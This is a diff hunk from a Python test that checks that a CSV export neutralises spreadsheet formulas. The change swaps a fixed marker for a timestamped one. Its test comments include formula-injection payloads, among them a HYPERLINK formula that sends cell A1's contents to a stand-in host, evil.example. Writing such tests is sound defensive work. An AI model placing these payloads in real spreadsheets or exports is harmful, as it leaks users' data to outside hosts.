@@ -407,7 +407,7 @@ def test_the_csv_export_neutralises_formulas_and_leaves_no_file(server):
     import tempfile
     from pathlib import Path
 
-    marker = "csv-marker-4410"
+    marker = f"csv-marker-{time.time_ns()}"
     comments = [
         f'=HYPERLINK("http://evil.example/?"&A1,"{marker}")',
         f"+1+1 {marker}",
